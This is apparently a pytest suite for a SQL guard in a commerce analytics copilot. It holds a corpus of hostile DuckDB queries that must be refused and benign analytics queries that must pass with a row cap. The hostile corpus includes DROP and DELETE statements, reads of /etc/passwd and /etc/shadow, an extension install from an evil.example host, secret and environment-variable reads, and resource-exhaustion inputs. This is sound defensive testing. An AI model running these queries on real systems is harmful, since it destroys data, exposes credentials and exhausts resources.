"""The SQL guard against a corpus of attacks (all refused) and benign analytics (all accepted)."""

from __future__ import annotations

import pytest

from commerce_platform.copilot.guard import check_sql
from commerce_platform.errors import Refused

pytestmark = pytest.mark.unit

ATTACKS = [
    # every non-query statement kind
    "DROP TABLE orders",
    "DELETE FROM orders",
    "DELETE FROM orders WHERE order_id = 1",
    "UPDATE orders SET status = 'paid'",
    "INSERT INTO orders VALUES (1, 1, DATE '2025-01-01', 'paid', 'web', 1.0)",
    "INSERT INTO orders SELECT * FROM orders",
    "CREATE TABLE x AS SELECT * FROM orders",
    "CREATE VIEW v AS SELECT 1",
    "CREATE MACRO m() AS 1",
    "CREATE SECRET s (TYPE s3, KEY_ID 'a', SECRET 'b')",
    "ALTER TABLE orders ADD COLUMN x INT",
    "ALTER VIEW orders RENAME TO o2",
    "TRUNCATE orders",
    "MERGE INTO orders USING customers ON 1 = 1 WHEN MATCHED THEN DELETE",
    "COPY orders TO '/tmp/out.csv'",
    "COPY orders FROM '/etc/passwd'",
    "COPY (SELECT * FROM customers) TO '/tmp/x.parquet' (FORMAT parquet)",
    "ATTACH '/tmp/evil.db' AS evil",
    "ATTACH 'md:' AS md",
    "DETACH evil",
    "INSTALL httpfs",
    "LOAD httpfs",
    "FORCE INSTALL httpfs FROM 'http://evil.example'",
    "PRAGMA version",
    "PRAGMA database_list",
    "SET enable_external_access = true",
    "SET memory_limit = '100GB'",
    "RESET threads",
    "EXPORT DATABASE '/tmp/dump'",
    "IMPORT DATABASE '/tmp/dump'",
    "CALL pragma_version()",
    "CALL duckdb_settings()",
    "CHECKPOINT",
    "VACUUM",
    "BEGIN TRANSACTION",
    "COMMIT",
    "USE other",
    "DESCRIBE orders",
    "SHOW TABLES",
    "SUMMARIZE orders",
    "PREPARE p AS SELECT 1",
    "EXECUTE p",
    "SELECT * INTO stolen FROM customers",
    # stacked statements and comment tricks
    "SELECT 1; DROP TABLE orders",
    "SELECT * FROM orders; DELETE FROM orders",
    "SELECT 1 -- harmless\n; DROP TABLE orders",
    "SELECT 1 /* ; */ ; ATTACH '/tmp/x.db'",
    "/* comment */ DROP TABLE orders",
    "SELECT 1; SELECT 2",
    # DML hidden in CTEs
    "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
    "WITH u AS (UPDATE orders SET status = 'x' RETURNING *) SELECT count(*) FROM u",
    "WITH i AS (INSERT INTO orders SELECT * FROM orders RETURNING *) SELECT 1",
    # file and URL readers, table functions
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_csv_auto('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT content FROM read_blob('/etc/shadow')",
    "SELECT * FROM read_parquet('/tmp/other/*.parquet')",
    "SELECT * FROM read_json('https://evil.example/x.json')",
    "SELECT * FROM parquet_scan('s3://bucket/key.parquet')",
    "SELECT * FROM glob('/home/*')",
    "SELECT * FROM orders WHERE customer_id IN (SELECT * FROM read_csv('/etc/hosts'))",
    "SELECT (SELECT count(*) FROM glob('/*')) AS n",
    "SELECT * FROM range(10)",
    "SELECT * FROM generate_series(1, 10)",
    "SELECT * FROM orders, LATERAL (SELECT * FROM read_text('/etc/passwd'))",
    "SELECT * FROM sniff_csv('/etc/passwd')",
    "SELECT * FROM parquet_metadata('/tmp/x.parquet')",
    "SELECT * FROM query('SELECT * FROM duckdb_secrets()')",
    "SELECT * FROM query_table('orders')",
    "SELECT 'HOME'.getenv()",
    "SELECT * FROM orders WHERE status = ?",
    "PIVOT orders ON status USING count(*)",
    "SELECT * FROM (UNPIVOT orders ON status INTO NAME k VALUE v)",
    # string-literal file paths as tables
    "SELECT * FROM '/etc/passwd'",
    "SELECT * FROM 'orders.parquet'",
    "SELECT * FROM '/tmp/lake/customers.parquet'",
    'SELECT * FROM "/etc/passwd"',
    "FROM '/etc/passwd'",
    # system, settings, secrets, environment
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_tables()",
    "SELECT * FROM duckdb_extensions()",
    "SELECT getenv('AWS_SECRET_ACCESS_KEY')",
    "SELECT current_setting('memory_limit')",
    "SELECT current_setting('s3_secret_access_key') FROM orders",
    "SELECT * FROM pragma_storage_info('orders')",
    "SELECT version()",
    "SELECT getvariable('x')",
    "SELECT order_id FROM orders WHERE status = getenv('HOME')",
    # other schemas and unknown tables
    "SELECT * FROM information_schema.tables",
    "SELECT * FROM main.orders",
    "SELECT * FROM evil.main.orders",
    "SELECT * FROM pg_catalog.pg_tables",
    "SELECT * FROM sqlite_master",
    "SELECT * FROM users",
    "SELECT * FROM payments JOIN orders USING (order_id)",
    "WITH x AS (SELECT * FROM secrets) SELECT * FROM x",
    # CTE names valid only in their own scope (a CTE inside a subquery does not hide the catalog outside it)
    "SELECT * FROM (WITH pg_settings AS (SELECT 1 AS a) SELECT 1 AS b) t, pg_settings",
    "SELECT * FROM sqlite_master WHERE EXISTS (WITH sqlite_master AS (SELECT 1) SELECT 1)",
    "SELECT * FROM duckdb_settings WHERE EXISTS (WITH duckdb_settings AS (SELECT 1) SELECT 1)",
    "SELECT (SELECT count(*) FROM (WITH tables AS (SELECT 1) SELECT 1) x), * FROM tables",
    "SELECT * FROM (SELECT 1 FROM (WITH secrets AS (SELECT 1) SELECT 1) x) y, secrets",
    "SELECT * FROM duckdb_secrets UNION ALL (WITH duckdb_secrets AS (SELECT 1) SELECT 1)",
    "WITH a AS (SELECT * FROM pg_settings), pg_settings AS (SELECT 1) SELECT * FROM a",
    "SELECT * FROM orders WHERE order_id IN (WITH information_schema AS (SELECT 1) SELECT 1) "
    "UNION ALL SELECT * FROM information_schema",
    # row cap: percent limits are fractions of the table, not row counts
    "SELECT * FROM customers LIMIT 100 PERCENT",
    "SELECT * FROM customers LIMIT 100%",
    "SELECT * FROM orders UNION ALL SELECT * FROM orders LIMIT 50 PERCENT",
    "SELECT * FROM orders FETCH FIRST 100 PERCENT ROWS ONLY",
    # nesting deep enough to exhaust the parser's recursion
    "SELECT " + "(" * 3000 + "1" + ")" * 3000,
    "SELECT * FROM orders WHERE " + "(" * 100 + "TRUE" + ")" * 100,
    "SELECT " + "NOT " * 3000 + "TRUE",
    "SELECT " + "CASE WHEN TRUE THEN " * 600 + "1" + " END" * 600,
    "SELECT " + "coalesce(" * 1500 + "1" + ")" * 1500,
    "SELECT " + "- " * 9000 + "1",
    # value amplifiers: a size taken from an argument, row generators, unbounded growth
    "SELECT length(repeat('x', 2000000000))",
    "SELECT repeat(name, 1000000000) FROM customers",
    "SELECT repeat([1], 1000000000)",
    "SELECT lpad('x', 2000000000, 'y')",
    "SELECT rpad(name, 2000000000, 'y') FROM customers",
    "SELECT range(2000000000)",
    "SELECT generate_series(1, 2000000000)",
    "SELECT unnest(range(2000000000))",
    "SELECT count(*) FROM unnest(range(2000000000))",
    "SELECT list_resize([1], 2000000000)",
    "SELECT array_fill(1, 2000000000)",
    "SELECT printf('%2000000000d', 1)",
    "SELECT format('{:>2000000000}', 1)",
    "SELECT length(s) FROM (SELECT name || name || name || name || name || name || name || name || name AS s "
    "FROM customers) t",
    "WITH a AS (SELECT name AS s FROM customers), b AS (SELECT s || s AS s FROM a), c AS (SELECT s || s AS s FROM b), "
    "d AS (SELECT s || s AS s FROM c), e AS (SELECT s || s AS s FROM d) SELECT length(s) FROM e",
    "WITH a AS (SELECT 'x' AS s), b AS (SELECT concat(s, s, s, s) AS s FROM a), c AS (SELECT concat(s, s, s, s) AS s "
    "FROM b), d AS (SELECT concat(s, s, s, s) AS s FROM c) SELECT length(concat(s, s, s, s)) FROM d",
    "SELECT length(replace(replace(replace(name, 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa')) "
    "FROM customers",
    "SELECT length(regexp_replace(replace('" + "x" * 5000 + "', 'x', '" + "y" * 1000 + "'), 'y', 'zz', 'g'))",
    "SELECT length(regexp_replace(name, '', name, 'g')) FROM customers",
    "WITH s AS (SELECT string_agg(name, ',') AS s FROM customers) SELECT s || s || s || s || s || s || s || s || s "
    "FROM s",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT count(*) FROM r",
    # parse failures and empties
    "",
    "   ",
    "SELEC * FROM orders",
]

BENIGN = [
    "SELECT * FROM orders",
    "SELECT count(*) FROM customers",
    "SELECT status, count(*) AS n FROM orders GROUP BY status ORDER BY n DESC",
    "SELECT 'drop table orders' AS s",
    "SELECT name FROM customers WHERE name = 'DELETE FROM orders; --'",
    "SELECT c.name, SUM(o.total_amount) AS revenue FROM orders o JOIN customers c ON c.customer_id = o.customer_id "
    "WHERE o.status NOT IN ('cancelled', 'returned') GROUP BY c.name ORDER BY revenue DESC LIMIT 10",
    "WITH s AS (SELECT product_id, SUM(quantity_on_hand) AS stock FROM inventory GROUP BY product_id) "
    "SELECT p.name, s.stock FROM s JOIN products p USING (product_id) WHERE s.stock = 0",
    "SELECT order_id, total_amount, ROW_NUMBER() OVER (PARTITION BY customer_id ORDER BY order_date) AS n FROM orders",
    "SELECT customer_id, SUM(total_amount) OVER (ORDER BY order_date ROWS BETWEEN 2 PRECEDING AND CURRENT ROW) FROM orders",
    "SELECT count(*) FILTER (WHERE status = 'paid') AS paid, count(*) FILTER (WHERE status = 'pending') AS pending FROM orders",
    "SELECT customer_id FROM orders WHERE channel = 'web' INTERSECT SELECT customer_id FROM orders WHERE channel = 'store'",
    "SELECT customer_id FROM customers EXCEPT SELECT customer_id FROM orders",
    "SELECT product_id FROM order_items UNION SELECT product_id FROM inventory",
    "SELECT date_trunc('month', order_date) AS month, SUM(total_amount) FROM orders GROUP BY 1 ORDER BY 1",
    "SELECT EXTRACT(year FROM order_date) AS y, AVG(total_amount) FROM orders GROUP BY y",
    "SELECT strftime(order_date, '%Y-%m') AS ym, count(*) FROM orders GROUP BY ym",
    "SELECT name, ROUND((unit_price - unit_cost) / unit_price, 3) AS margin FROM products ORDER BY margin DESC LIMIT 5",
    "SELECT * FROM orders WHERE order_date BETWEEN DATE '2025-01-01' AND DATE '2025-03-31'",
    "SELECT * FROM orders WHERE order_date >= CURRENT_DATE - INTERVAL 30 DAY",
    "SELECT CASE WHEN total_amount > 100 THEN 'big' ELSE 'small' END AS size, count(*) FROM orders GROUP BY 1",
    "SELECT COALESCE(delivered_at, shipped_at) AS t, carrier FROM shipments WHERE tracking_number LIKE 'DH%'",
    "SELECT lower(city), upper(country), length(name) FROM customers",
    "SELECT * FROM customers c WHERE NOT EXISTS (SELECT 1 FROM orders o WHERE o.customer_id = c.customer_id)",
    "SELECT a.product_id, b.product_id, count(*) FROM order_items a JOIN order_items b ON a.order_id = b.order_id "
    "AND a.product_id < b.product_id GROUP BY 1, 2 ORDER BY 3 DESC LIMIT 10",
    "SELECT RANK() OVER (ORDER BY SUM(total_amount) DESC) AS r, customer_id FROM orders GROUP BY customer_id",
    "SELECT LAG(total_amount) OVER (ORDER BY order_date) FROM orders",
    "SELECT date_diff('day', shipped_at, delivered_at) AS days FROM shipments",
    "SELECT * FROM (SELECT order_id FROM orders) AS sub",
    "(SELECT 1)",
    "SELECT 1 -- a comment with DROP TABLE orders",
    "SELECT * FROM orders LIMIT 5000",
    "SELECT median(total_amount), stddev(total_amount) FROM orders",
    "SELECT order_id FROM orders QUALIFY row_number() OVER (PARTITION BY customer_id ORDER BY order_date) = 1",
    "SELECT * FROM orders USING SAMPLE 10",
    "SELECT * FROM (VALUES (1, 'a'), (2, 'b')) AS t(n, s)",
    "SELECT name.upper(), 'x' || city, total::VARCHAR FROM (SELECT c.*, 1 AS total FROM customers c) AS x",
    # CTEs used where they are in scope, in any letter case
    "SELECT * FROM (WITH t AS (SELECT order_id FROM orders) SELECT * FROM t) AS s",
    "WITH T AS (SELECT order_id FROM orders) SELECT * FROM t WHERE order_id IN (SELECT order_id FROM T)",
    "WITH orders AS (SELECT * FROM orders WHERE status = 'paid') SELECT count(*) FROM orders",
    "WITH a AS (SELECT customer_id FROM orders), b AS (SELECT * FROM a) SELECT * FROM b UNION SELECT * FROM a",
    "SELECT * FROM orders WHERE EXISTS (WITH p AS (SELECT 1 AS x) SELECT x FROM p)",
    # ordinary string building stays allowed
    "SELECT 'Top: ' || string_agg(name, ', ') FROM products",
    "SELECT string_agg(concat_ws(' ', name, email, city, country), '; ') FROM customers",
    "SELECT replace(name, ' ', '_'), regexp_replace(email, '@.*', '') FROM customers",
    "SELECT * FROM orders ORDER BY order_date LIMIT 10 OFFSET 20",
    "SELECT * FROM orders WHERE " + "(" * 10 + "total_amount > 1" + ")" * 10,
]


@pytest.mark.parametrize("sql", ATTACKS)
def test_attack_is_refused(sql):
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert info.value.exit_code == 3
    assert "SQL refused" in info.value.message


@pytest.mark.parametrize("sql", BENIGN)
def test_benign_query_is_accepted_and_limited(sql):
    import sqlglot

    result = check_sql(sql)
    parsed = sqlglot.parse_one(result.sql, read="duckdb")
    limit = parsed.args.get("limit")
    assert limit is not None and int(limit.expression.this) <= 1000


def test_corpus_sizes():
    assert len(ATTACKS) >= 100 and len(BENIGN) >= 40


def test_limit_added_lowered_or_kept():
    assert check_sql("SELECT * FROM orders").sql.endswith("LIMIT 1000")
    assert check_sql("SELECT * FROM orders LIMIT 5000").limited
    kept = check_sql("SELECT * FROM orders LIMIT 7")
    assert not kept.limited and kept.sql.endswith("LIMIT 7")


@pytest.mark.parametrize("sql, reason", [
    ("SELECT 1; DROP TABLE orders", "exactly one statement"),
    ("SELECT * FROM read_csv('/etc/passwd')", "read_csv"),
    ("SELECT getenv('HOME')", "getenv"),
    ("SELECT * FROM users", "unknown table 'users'"),
    ("SELECT * FROM information_schema.tables", "another schema"),
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", "DELETE"),
])
def test_reason_names_the_offending_part(sql, reason):
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert reason in info.value.message


def test_tables_reported():
    assert check_sql("SELECT * FROM orders JOIN customers USING (customer_id)").tables == ("customers", "orders")


@pytest.mark.parametrize("sql, table", [
    ("SELECT * FROM (WITH pg_settings AS (SELECT 1 AS a) SELECT 1 AS b) t, pg_settings", "pg_settings"),
    ("SELECT * FROM sqlite_master WHERE EXISTS (WITH sqlite_master AS (SELECT 1) SELECT 1)", "sqlite_master"),
    ("SELECT * FROM duckdb_secrets UNION ALL (WITH duckdb_secrets AS (SELECT 1) SELECT 1)", "duckdb_secrets"),
    ("WITH a AS (SELECT * FROM pg_settings), pg_settings AS (SELECT 1) SELECT * FROM a", "pg_settings"),
])
def test_cte_name_counts_only_in_its_own_scope(sql, table):
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert f"unknown table {table!r}" in info.value.message


def test_cte_in_scope_is_not_reported_as_a_lake_table():
    result = check_sql("WITH orders AS (SELECT * FROM orders) SELECT * FROM (WITH c AS (SELECT 1 AS x) SELECT x FROM c) s, "
                       "orders")
    assert result.tables == ("orders",)


@pytest.mark.parametrize("sql", ["SELECT * FROM customers LIMIT 100 PERCENT", "SELECT * FROM customers LIMIT 100%"])
def test_percent_limit_is_refused(sql):
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert "PERCENT" in info.value.message and "at most 1000" in info.value.hint


@pytest.mark.parametrize("sql", ["SELECT " + "(" * 3000 + "1" + ")" * 3000, "SELECT " + "NOT " * 3000 + "TRUE"])
def test_deep_nesting_is_a_refusal_not_a_crash(sql):
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert "nest" in info.value.message and "flatten" in info.value.hint


def test_nesting_below_the_limit_is_accepted():
    from commerce_platform.copilot.guard import MAX_NESTING

    check_sql("SELECT " + "(" * MAX_NESTING + "1" + ")" * MAX_NESTING)
    with pytest.raises(Refused):
        check_sql("SELECT " + "(" * (MAX_NESTING + 1) + "1" + ")" * (MAX_NESTING + 1))


@pytest.mark.parametrize("sql, reason", [
    ("SELECT length(repeat('x', 2000000000))", "repeat()"),
    ("SELECT lpad('x', 2000000000, 'y')", "lpad()"),
    ("SELECT unnest(range(2000000000))", "unnest()"),
    ("SELECT range(2000000000)", "range()"),
    ("WITH a AS (SELECT name AS s FROM customers), b AS (SELECT s || s AS s FROM a), c AS (SELECT s || s AS s FROM b), "
     "d AS (SELECT s || s AS s FROM c), e AS (SELECT s || s AS s FROM d) SELECT length(s) FROM e", "grows values"),
    ("SELECT replace(replace(name, 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa') FROM customers", "grows values"),
])
def test_amplifiers_are_refused_before_running(sql, reason):
    # check_sql reads the parsed tree only (it has no engine), so a refusal here means the query never ran; no
    # wall-clock bound (a timed unit test fails on a loaded machine, not on a slow guard)
    with pytest.raises(Refused) as info:
        check_sql(sql)
    assert reason in info.value.message


def test_growth_limit_counts_copies_of_lake_values():
    from commerce_platform.copilot.guard import MAX_GROWTH

    check_sql("SELECT " + " || ".join(["name"] * MAX_GROWTH) + " FROM customers")
    with pytest.raises(Refused):
        check_sql("SELECT " + " || ".join(["name"] * (MAX_GROWTH + 1)) + " FROM customers")


class Unreadable(frozenset):
    """The shape of an engine's table set when a table's files cannot be read."""

    unreadable: dict = {}


def test_unreadable_table_raises_the_engines_error_not_unknown_table():
    from commerce_platform.errors import ServiceUnavailable

    tables = Unreadable({"orders"})
    tables.unreadable = {"shipments": lambda: ServiceUnavailable("the lake table 'shipments' cannot be read")}
    assert check_sql("SELECT * FROM orders", tables=tables).tables == ("orders",)
    with pytest.raises(ServiceUnavailable, match="'shipments' cannot be read"):
        check_sql("SELECT * FROM shipments", tables=tables)
    with pytest.raises(Refused, match="unknown table 'users'"):
        check_sql("SELECT * FROM users", tables=tables)
